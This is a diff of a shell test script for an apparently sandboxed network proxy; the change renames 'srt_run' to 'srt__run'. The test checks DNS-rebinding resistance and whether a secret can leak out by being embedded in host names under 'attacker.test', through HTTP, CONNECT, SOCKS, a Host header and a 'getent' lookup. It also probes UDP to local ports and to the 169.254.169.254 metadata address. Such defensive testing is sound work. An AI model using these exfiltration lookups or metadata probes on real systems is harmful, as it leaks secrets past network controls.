@@ -76,7 +76,7 @@ names="a b m m6 mapped mapped-m nat64 sixtofour zero v6 mixed"
 for n in $names; do
 	printf 'http %s.rebind.test:%s\nconnect %s.rebind.test:%s\nsocks %s.rebind.test %s\n' "$n" "$PORT" "$n" "$PORT" "$n" "$PORT"
 done > "$P/requests"
-srt_run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests" >"$WORK/out" 2>"$WORK/err"
+srt__run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests" >"$WORK/out" 2>"$WORK/err"
 sleep 0.3
 resolved=$(grep -c 'srt-proxy: resolving .*rebind.test' "$WORK/err")
 attempt N4 "control: the proxy resolved the allowed names from the test hosts file ($resolved lookups)" \
@@ -120,7 +120,7 @@ if ! wait_for "$WORK/flipdns.up" 50; then echo "Bail out! the test resolver did 
 echo "nameserver 127.0.0.2" > "$WORK/resolv.conf"
 rm -f "$WORK/any.log"
 for i in 1 2 3 4 5 6; do printf 'http flip.rebind.test:%s\nconnect flip.rebind.test:%s\n' "$PORT" "$PORT"; done > "$P/requests"
-srt_run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests" >"$WORK/out" 2>"$WORK/err"
+srt__run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests" >"$WORK/out" 2>"$WORK/err"
 sleep 0.3
 attempt N4 "rebinding in time: the name was looked up ($(grep -c 'resolving flip' "$WORK/err") times)" \
 	test "$(grep -c 'resolving flip' "$WORK/err")" -ge 2
@@ -138,13 +138,13 @@ Host: $secret.hosthdr.attacker.test
 EOF2
 printf '%s\n' "http $secret.plain.attacker.test:80" "http ${secret^^}.UPPER.ATTACKER.TEST.:80" \
 	"connect $secret.connect.attacker.test:443" "socks $secret.socks.attacker.test 443" "raw req-host" > "$P/requests"
-srt_run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests; getent hosts $secret.getent.attacker.test" >"$WORK/out" 2>"$WORK/err"
+srt__run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests; getent hosts $secret.getent.attacker.test" >"$WORK/out" 2>"$WORK/err"
 attempt N4 "refused names were never resolved (plain, upper case + dot, CONNECT, SOCKS5, Host header)" \
 	sh -c "! grep -qi 'resolving.*attacker' '$WORK/err' && ! grep -qi 'attacker' '$WORK/any.log' 2>/dev/null"
 attempt N4 "none of them got through" sh -c "! grep -q -- '-> 200' '$WORK/out'"
 
 # DNS and other UDP straight from the sandbox reach nothing on the host
-srt_run -s "$S" -c "/usr/bin/python3 -c '
+srt__run -s "$S" -c "/usr/bin/python3 -c '
 import socket
 for a in ((\"127.0.0.1\", 53), (\"127.0.0.1\", $PORT), (\"169.254.169.254\", 53)):
     try:
